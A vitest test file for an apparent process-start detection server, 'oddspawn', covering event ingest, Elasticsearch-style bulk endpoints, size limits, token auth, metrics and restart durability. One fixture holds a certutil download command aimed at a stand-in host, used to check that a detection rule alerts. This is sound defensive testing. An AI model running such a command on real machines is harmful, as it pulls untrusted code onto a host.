import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createServer, type OddspawnServer } from './server.js';
import type { ServeOptions } from './config.js';
import { processStartDoc, TEST_RULE_ID, writeFastRule } from './testing.js';
import { createToken } from './auth/tokens.js';
import { UI_NOT_BUILT_HTML } from './static-ui.js';
import { MAX_FAILURES } from './ingest/processor.js';

const NOW = Date.UTC(2026, 10, 28, 12, 0, 0);
const FIXTURES = join(import.meta.dirname, '..', '..', 'test', 'fixtures', 'shapes');
let dir: string;
const servers: OddspawnServer[] = [];

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'oddspawn-serve-'));
});
afterEach(async () => {
  for (const s of servers.splice(0)) await s.close();
  rmSync(dir, { recursive: true, force: true });
});

async function server(o: Partial<ServeOptions> = {}): Promise<OddspawnServer> {
  const s = await createServer({
    dbPath: join(dir, 'serve.sqlite'),
    rulesDirs: [writeFastRule(join(dir, 'rules'))],
    uiDir: join(dir, 'no-ui'),
    now: () => NOW,
    autoProcess: false,
    durability: 'normal',
    ...o,
  });
  servers.push(s);
  return s;
}

const ndjson = (docs: object[]): string => docs.map((d) => JSON.stringify(d)).join('\n') + '\n';
const docs = (n: number, name = 'notepad.exe', t0 = NOW - 60_000): Array<Record<string, unknown>> =>
  Array.from({ length: n }, (_, i) => processStartDoc({ timeMs: t0 + i * 10, name, user: `user${i % 3}` }));

describe('POST /api/v1/events', () => {
  it('queues NDJSON, and processing stores each event once and alerts on the rule', async () => {
    const s = await server();
    const body = ndjson([...docs(5), processStartDoc({ timeMs: NOW - 30_000, name: 'certutil.exe', cmd: 'certutil.exe -urlcache -f http://x.test/a a' })]);
    const res = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-type': 'application/x-ndjson' }, payload: body });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ accepted: 6, rejected: 0, skipped: 0, issues: [], issues_total: 0 });
    expect(s.queue.pendingEvents).toBe(6);
    expect(s.processor.drain()).toBe(6);
    expect(s.queue.pendingEvents).toBe(0);
    const count = (sql: string): number => (s.db.prepare(sql).get() as { n: number }).n;
    expect(count('SELECT COUNT(*) AS n FROM events')).toBe(6);
    expect(count('SELECT COUNT(*) AS n FROM ingest_queue')).toBe(0);
    const alerts = s.db.prepare('SELECT rule_id, process_name FROM alerts').all();
    expect(alerts).toEqual([{ rule_id: TEST_RULE_ID, process_name: 'certutil.exe' }]);
    // Posting the same body again is a new batch (no ids): stored as new events, and the new certutil start alerts again.
    await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: body });
    s.processor.drain();
    expect(count('SELECT COUNT(*) AS n FROM events')).toBe(12);
  });

  it('accepts a JSON array, gzip with or without Content-Encoding, and deflate', async () => {
    const s = await server();
    const arr = JSON.stringify(docs(3));
    const a = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-type': 'application/json' }, payload: arr });
    expect(a.json().accepted).toBe(3);
    const gz = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-encoding': 'gzip' }, payload: gzipSync(ndjson(docs(4))) });
    expect(gz.json().accepted).toBe(4);
    const bare = await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: gzipSync(ndjson(docs(2))) });
    expect(bare.json().accepted).toBe(2);
    const { deflateSync } = await import('node:zlib');
    const df = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-encoding': 'deflate' }, payload: deflateSync(ndjson(docs(1))) });
    expect(df.json().accepted).toBe(1);
    // Ingest bodies are not held to the JSON APIs' 1 MiB limit.
    const many = docs(4000);
    const large = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-type': 'application/json' }, payload: JSON.stringify(many) });
    expect(large.statusCode).toBe(200);
    expect(large.json().accepted).toBe(4000);
    expect(s.queue.pendingEvents).toBe(4010);
  });

  it('reports bad records with codes and lines and keeps the good ones around them', async () => {
    const s = await server();
    const lines = [JSON.stringify(docs(1)[0]), '{"not json', JSON.stringify({ hello: 'world' }), '[1,2]', JSON.stringify(processStartDoc({ timeMs: NOW, name: 'calc.exe' }))];
    const res = await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: lines.join('\n') });
    expect(res.statusCode).toBe(200);
    const b = res.json();
    expect(b.accepted).toBe(2);
    expect(b.rejected).toBe(3);
    expect(b.issues.map((i: { code: string; line: number }) => [i.code, i.line])).toEqual([
      ['OS_READ_JSON', 2],
      ['OS_NORM_UNKNOWN_SHAPE', 3],
      ['OS_READ_NOT_OBJECT', 4],
    ]);
    const metrics = (await s.app.inject({ method: 'GET', url: '/metrics' })).body;
    expect(metrics).toContain('oddspawn_records_rejected_total{code="OS_READ_JSON"} 1');
  });

  it('answers 413 for oversize bodies (as sent and once decompressed), 400 for corrupt gzip, 415 for unknown encodings', async () => {
    const s = await server({ maxIngestBytes: 4096, maxDecompressedBytes: 8192 });
    const big = await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: 'x'.repeat(5000) });
    expect(big.statusCode).toBe(413);
    expect(big.json().error.code).toBe('BODY_TOO_LARGE');
    const bomb = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-encoding': 'gzip' }, payload: gzipSync(' '.repeat(100_000)) });
    expect(bomb.statusCode).toBe(413);
    expect(bomb.json().error.code).toBe('BODY_TOO_LARGE');
    const corrupt = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-encoding': 'gzip' }, payload: Buffer.from('not gzip at all') });
    expect(corrupt.statusCode).toBe(400);
    expect(corrupt.json().error.code).toBe('BAD_REQUEST');
    const br = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { 'content-encoding': 'br' }, payload: 'x' });
    expect(br.statusCode).toBe(415);
    expect(s.queue.pendingEvents).toBe(0);
  });

  it('answers 429 with Retry-After while the queue is full, and accepts again once it drains', async () => {
    const s = await server({ maxPendingEvents: 5 });
    const first = await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson(docs(5)) });
    expect(first.json().accepted).toBe(5);
    const second = await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson(docs(1)) });
    expect(second.statusCode).toBe(429);
    expect(second.headers['retry-after']).toBe('5');
    expect(second.json().error.code).toBe('TOO_MANY_REQUESTS');
    s.processor.drain();
    const third = await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson(docs(1)) });
    expect(third.json().accepted).toBe(1);
  });
});

describe('Elasticsearch-compatible endpoints', () => {
  const bulkBody = (lines: object[]): string => lines.map((l) => JSON.stringify(l)).join('\n') + '\n';

  it('answers _bulk like Elasticsearch, errors:false when every item succeeded', async () => {
    const s = await server();
    const [d1, d2] = docs(2);
    const res = await s.app.inject({
      method: 'POST',
      url: '/_bulk',
      headers: { 'content-type': 'application/x-ndjson' },
      payload: bulkBody([{ create: { _index: 'logs-endpoint', _id: 'abc' } }, d1, { index: {} }, d2]),
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['x-elastic-product']).toBe('Elasticsearch');
    const b = res.json();
    expect(b.errors).toBe(false);
    expect(typeof b.took).toBe('number');
    expect(b.items).toHaveLength(2);
    expect(b.items[0].create).toMatchObject({ _index: 'logs-endpoint', _id: 'abc', status: 201, result: 'created' });
    expect(b.items[1].index).toMatchObject({ _index: 'oddspawn', status: 201, result: 'created' });
    expect(b.items[1].index._id).toMatch(/^\d+-2$/);
    s.processor.drain();
    // A document with an _id keeps it as its identity: sent again, it is not stored twice.
    await s.app.inject({ method: 'POST', url: '/_bulk', payload: bulkBody([{ create: { _index: 'logs-endpoint', _id: 'abc' } }, d1]) });
    s.processor.drain();
    expect((s.db.prepare('SELECT COUNT(*) AS n FROM events').get() as { n: number }).n).toBe(2);
  });

  it('gives per-item 400s for unreadable documents, 200 noop for other event kinds, and keeps the rest', async () => {
    const s = await server();
    const logon = { '@timestamp': new Date(NOW).toISOString(), event: { category: ['authentication'], type: ['start'], kind: 'event', code: '4624' }, host: { name: 'dc1', os: { type: 'windows' } }, winlog: { event_id: '4624', channel: 'Security' } };
    const res = await s.app.inject({
      method: 'POST',
      url: '/winlogbeat-9.0/_bulk',
      payload: [JSON.stringify({ index: {} }), JSON.stringify(docs(1)[0]), JSON.stringify({ index: {} }), '{broken', JSON.stringify({ create: {} }), JSON.stringify({ nothing: 'known' }), JSON.stringify({ create: {} }), JSON.stringify(logon), JSON.stringify({ delete: { _id: 'x' } })].join('\n'),
    });
    expect(res.statusCode).toBe(200);
    const b = res.json();
    expect(b.errors).toBe(true);
    expect(b.items.map((i: Record<string, { status: number }>) => Object.values(i)[0].status)).toEqual([201, 400, 400, 200, 404]);
    expect(b.items[0].index._index).toBe('winlogbeat-9.0');
    expect(b.items[1].index.error.code).toBe('OS_READ_JSON');
    expect(b.items[2].create.error.code).toBe('OS_NORM_UNKNOWN_SHAPE');
    expect(b.items[3].create.result).toBe('noop');
    expect(s.queue.pendingEvents).toBe(1);
  });

  it('maps what Winlogbeat (Sysmon, Security 4688) and Elastic Defend ship', async () => {
    const s = await server();
    const shapes = ['winlogbeat-sysmon-ecs', 'winlogbeat-sysmon-raw', 'winlogbeat-4688-win10', 'winlogbeat-4688-legacy', 'elastic-defend'];
    const lines = shapes.flatMap((f) => [JSON.stringify({ create: { _index: `logs-${f}` } }), JSON.stringify(JSON.parse(readFileSync(join(FIXTURES, `${f}.json`), 'utf8')))]);
    const res = await s.app.inject({ method: 'POST', url: '/_bulk', payload: lines.join('\n') + '\n' });
    expect(res.json().errors).toBe(false);
    expect(res.json().items.map((i: { create: { status: number } }) => i.create.status)).toEqual([201, 201, 201, 201, 201]);
    s.processor.drain();
    const shapesStored = s.db.prepare('SELECT shape FROM events ORDER BY id').all() as Array<{ shape: string }>;
    expect(shapesStored.map((r) => r.shape)).toEqual(['winlogbeat-sysmon', 'winlogbeat-sysmon', 'winlogbeat-security-4688', 'winlogbeat-security-4688', 'elastic-defend']);
  });

  it('rejects a body whose action line is not an action, and an empty body', async () => {
    const s = await server();
    const bad = await s.app.inject({ method: 'POST', url: '/_bulk', payload: '{"foo":1}\n{}\n' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error).toMatchObject({ code: 'BAD_REQUEST', type: 'illegal_argument_exception' });
    expect(bad.json().status).toBe(400);
    const empty = await s.app.inject({ method: 'POST', url: '/_bulk', payload: '' });
    expect(empty.statusCode).toBe(400);
  });

  it('answers the start-up calls shippers make', async () => {
    const s = await server({ esVersion: '9.4.3' });
    const root = await s.app.inject({ method: 'GET', url: '/', headers: { accept: 'application/json' } });
    expect(root.statusCode).toBe(200);
    expect(root.headers['x-elastic-product']).toBe('Elasticsearch');
    expect(root.json().version.number).toBe('9.4.3');
    expect((await s.app.inject({ method: 'HEAD', url: '/' })).statusCode).toBe(200);
    expect((await s.app.inject({ method: 'GET', url: '/_license' })).json().license.status).toBe('active');
    expect((await s.app.inject({ method: 'GET', url: '/_xpack' })).json().features.ilm.available).toBe(true);
    expect((await s.app.inject({ method: 'HEAD', url: '/_index_template/winlogbeat-9.0' })).statusCode).toBe(200);
    expect((await s.app.inject({ method: 'GET', url: '/_index_template/winlogbeat-9.0' })).json().index_templates[0].name).toBe('winlogbeat-9.0');
    expect((await s.app.inject({ method: 'PUT', url: '/_index_template/winlogbeat-9.0', payload: '{"index_patterns":["x"]}', headers: { 'content-type': 'application/json' } })).json()).toEqual({ acknowledged: true });
    expect((await s.app.inject({ method: 'GET', url: '/_template/old' })).json()).toHaveProperty('old');
    expect((await s.app.inject({ method: 'GET', url: '/_ingest/pipeline/winlogbeat-9.0-routing' })).json()).toHaveProperty(['winlogbeat-9.0-routing']);
    expect((await s.app.inject({ method: 'GET', url: '/_nodes/_local/ingest' })).json()._nodes.total).toBe(1);
    expect((await s.app.inject({ method: 'GET', url: '/_ilm/policy/winlogbeat' })).json()).toHaveProperty('winlogbeat');
  });
});

describe('auth', () => {
  it('allows everything on loopback without tokens', async () => {
    const s = await server();
    expect((await s.app.inject({ method: 'GET', url: '/api/v1/health' })).statusCode).toBe(200);
  });

  it('needs a token once one exists: 401 missing / invalid, 403 read token writing, analyst may ingest', async () => {
    const tokenFile = join(dir, 'tokens.json');
    const reader = createToken('viewer', 'read', { tokenFile });
    const analyst = createToken('shipper', 'analyst', { tokenFile });
    const s = await server({ tokenFile });
    const missing = await s.app.inject({ method: 'GET', url: '/api/v1/health' });
    expect(missing.statusCode).toBe(401);
    expect(missing.json().error.code).toBe('AUTH_MISSING');
    const wrong = await s.app.inject({ method: 'GET', url: '/api/v1/health', headers: { authorization: 'Bearer osp_wrong' } });
    expect(wrong.statusCode).toBe(401);
    expect(wrong.json().error.code).toBe('AUTH_INVALID');
    expect((await s.app.inject({ method: 'GET', url: '/api/v1/health', headers: { authorization: `Bearer ${reader}` } })).statusCode).toBe(200);
    const forbidden = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { authorization: `Bearer ${reader}` }, payload: ndjson(docs(1)) });
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().error.code).toBe('AUTH_FORBIDDEN');
    const ok = await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { authorization: `Bearer ${analyst}` }, payload: ndjson(docs(1)) });
    expect(ok.json().accepted).toBe(1);
    // What Beats send: an API key "id:key" in base64, or basic auth with the token as password.
    const apiKey = Buffer.from(`oddspawn:${analyst}`).toString('base64');
    expect((await s.app.inject({ method: 'POST', url: '/_bulk', headers: { authorization: `ApiKey ${apiKey}` }, payload: `{"index":{}}\n${JSON.stringify(docs(1)[0])}\n` })).json().errors).toBe(false);
    const basic = Buffer.from(`elastic:${analyst}`).toString('base64');
    expect((await s.app.inject({ method: 'GET', url: '/', headers: { authorization: `Basic ${basic}` } })).statusCode).toBe(200);
    const esMissing = await s.app.inject({ method: 'GET', url: '/' });
    expect(esMissing.statusCode).toBe(401);
    expect(esMissing.json().error.type).toBe('security_exception');
    expect((await s.app.inject({ method: 'GET', url: '/metrics' })).statusCode).toBe(401);
    // The UI's page itself is public (it asks for a token when the API answers 401).
    expect((await s.app.inject({ method: 'GET', url: '/', headers: { accept: 'text/html' } })).statusCode).toBe(200);
  });

  it('guards the query/management API the same way, and a rule setting rebuilds the engine', async () => {
    const tokenFile = join(dir, 'tokens.json');
    const reader = createToken('viewer', 'read', { tokenFile });
    const analyst = createToken('analyst', 'analyst', { tokenFile });
    const s = await server({ tokenFile });
    expect((await s.app.inject({ method: 'GET', url: '/api/v1/alerts' })).statusCode).toBe(401);
    const list = await s.app.inject({ method: 'GET', url: '/api/v1/alerts', headers: { authorization: `Bearer ${reader}` } });
    expect(list.statusCode).toBe(200);
    expect(list.json().total).toBe(0);
    const patch = { method: 'PATCH' as const, url: `/api/v1/rules/${TEST_RULE_ID}`, payload: { enabled: false } };
    expect((await s.app.inject({ ...patch, headers: { authorization: `Bearer ${reader}` } })).statusCode).toBe(403);
    expect(s.rules.rules()[0].rule.enabled).toBe(true);
    expect((await s.app.inject({ ...patch, headers: { authorization: `Bearer ${analyst}` } })).statusCode).toBe(200);
    expect(s.rules.rules()[0].rule.enabled).toBe(false);
    // Disabled: the certutil start is stored but no longer alerts.
    await s.app.inject({ method: 'POST', url: '/api/v1/events', headers: { authorization: `Bearer ${analyst}` }, payload: ndjson([processStartDoc({ timeMs: NOW - 1000, name: 'certutil.exe' })]) });
    s.processor.drain();
    expect((s.db.prepare('SELECT COUNT(*) AS n FROM alerts').get() as { n: number }).n).toBe(0);
    // The JSON APIs take small bodies only.
    const big = await s.app.inject({ ...patch, headers: { authorization: `Bearer ${analyst}`, 'content-type': 'application/json' }, payload: JSON.stringify({ enabled: true, pad: 'x'.repeat(2 * 1024 * 1024) }) });
    expect(big.statusCode).toBe(413);
    expect(big.json().error.code).toBe('BODY_TOO_LARGE');
  });

  it('refuses to bind beyond loopback without tokens, and binds with one', async () => {
    await expect(server({ host: '0.0.0.0' })).rejects.toThrow(/refusing to listen on 0.0.0.0 without API tokens/);
    const tokenFile = join(dir, 'tokens.json');
    createToken('ops', 'analyst', { tokenFile });
    const s = await server({ host: '0.0.0.0', tokenFile });
    expect((await s.app.inject({ method: 'GET', url: '/api/v1/health' })).statusCode).toBe(401);
  });
});

describe('health, metrics, UI', () => {
  it('reports health and Prometheus metrics after processing', async () => {
    const s = await server();
    await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson([...docs(3), processStartDoc({ timeMs: NOW - 1000, name: 'certutil.exe' })]) });
    const before = (await s.app.inject({ method: 'GET', url: '/api/v1/health' })).json();
    expect(before).toMatchObject({ status: 'ok', queue: { pending: 4, rows: 1 }, events_total: 0 });
    s.processor.drain();
    const h = (await s.app.inject({ method: 'GET', url: '/api/v1/health' })).json();
    expect(h).toMatchObject({ status: 'ok', queue: { pending: 0, rows: 0 }, events_total: 4, alerts_total: 1, last_rule_run: new Date(NOW).toISOString() });
    expect(typeof h.version).toBe('string');
    const m = await s.app.inject({ method: 'GET', url: '/metrics' });
    expect(m.headers['content-type']).toContain('text/plain');
    expect(m.body).toContain('oddspawn_events_accepted_total 4');
    expect(m.body).toContain('oddspawn_events_processed_total 4');
    expect(m.body).toContain(`oddspawn_alerts_created_total{rule_id="${TEST_RULE_ID}"} 1`);
    expect(m.body).toContain('oddspawn_queue_pending_events 0');
    expect(m.body).toMatch(/oddspawn_predictions_total\{class="benign"\} \d/);
    expect(m.body).toContain(`oddspawn_rule_run_duration_seconds_count{rule_id="${TEST_RULE_ID}"}`);
  });

  it('says the UI is not built when dist/ui is missing', async () => {
    const s = await server();
    const r = await s.app.inject({ method: 'GET', url: '/', headers: { accept: 'text/html' } });
    expect(r.body).toBe(UI_NOT_BUILT_HTML);
    expect(r.headers['content-security-policy']).toContain("script-src 'self'");
  });

  it('serves the built UI with an SPA fallback, and JSON 404s under /api', async () => {
    const ui = join(dir, 'ui');
    mkdirSync(join(ui, 'assets'), { recursive: true });
    writeFileSync(join(ui, 'index.html'), '<!doctype html><title>ui</title>');
    writeFileSync(join(ui, 'assets', 'app.js'), 'console.log(1)');
    const s = await server({ uiDir: ui });
    expect((await s.app.inject({ method: 'GET', url: '/', headers: { accept: 'text/html' } })).body).toContain('<title>ui</title>');
    const js = await s.app.inject({ method: 'GET', url: '/assets/app.js' });
    expect(js.body).toBe('console.log(1)');
    expect(js.headers['content-type']).toContain('javascript');
    expect((await s.app.inject({ method: 'GET', url: '/alerts/abc', headers: { accept: 'text/html' } })).body).toContain('<title>ui</title>');
    const api404 = await s.app.inject({ method: 'GET', url: '/api/v1/nope', headers: { accept: 'text/html' } });
    expect(api404.statusCode).toBe(404);
    expect(api404.json().error.code).toBe('NOT_FOUND');
  });
});

describe('durability', () => {
  it('keeps acknowledged events across a restart and processes them exactly once', async () => {
    const s1 = await server({ processChunkEvents: 4 });
    await s1.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson(docs(10)) });
    s1.processor.step(); // 4 of 10 committed
    await s1.close();
    servers.splice(servers.indexOf(s1), 1);
    const s2 = await server({ processChunkEvents: 4 });
    expect(s2.queue.pendingEvents).toBe(6);
    expect(s2.processor.drain()).toBe(6);
    const keys = s2.db.prepare('SELECT event_key FROM events ORDER BY event_key').all() as Array<{ event_key: string }>;
    expect(keys).toHaveLength(10);
    expect(new Set(keys.map((k) => k.event_key)).size).toBe(10);
  });

  it('replays recent events into a rebuilt engine without duplicating alerts', async () => {
    const s = await server();
    await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson([processStartDoc({ timeMs: NOW - 5000, name: 'certutil.exe' })]) });
    s.processor.drain();
    expect(s.rules.replayed).toBe(0);
    s.rules.rebuild();
    expect(s.rules.replayed).toBe(1);
    s.rules.advance();
    expect((s.db.prepare('SELECT COUNT(*) AS n FROM alerts').get() as { n: number }).n).toBe(1);
  });

  it('sets aside a batch the processing loop keeps failing on, and goes on with the rest', async () => {
    const s = await server();
    const c = s.processor['o'].classifier;
    const score = c.scoreEvent.bind(c);
    c.scoreEvent = (ev) => {
      if (ev.event.process.command_line?.includes('poison')) throw new Error('poisoned event');
      return score(ev);
    };
    await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson([processStartDoc({ timeMs: NOW, cmd: 'notepad.exe poison' })]) });
    await s.app.inject({ method: 'POST', url: '/api/v1/events', payload: ndjson(docs(3)) });
    for (let k = 0; k < MAX_FAILURES; k++) expect(() => s.processor.step()).toThrow('poisoned event');
    expect(s.processor.setAside).toBe(1);
    expect(s.processor.drain()).toBe(3);
    expect((s.db.prepare('SELECT COUNT(*) AS n FROM events').get() as { n: number }).n).toBe(3);
    expect(s.db.prepare('SELECT n, source FROM ingest_dead').all()).toEqual([{ n: 1, source: 'api' }]);
    expect(s.issues.count('OS_INTERNAL')).toBe(1);
    expect(s.queue.pendingEvents).toBe(0);
  });
});
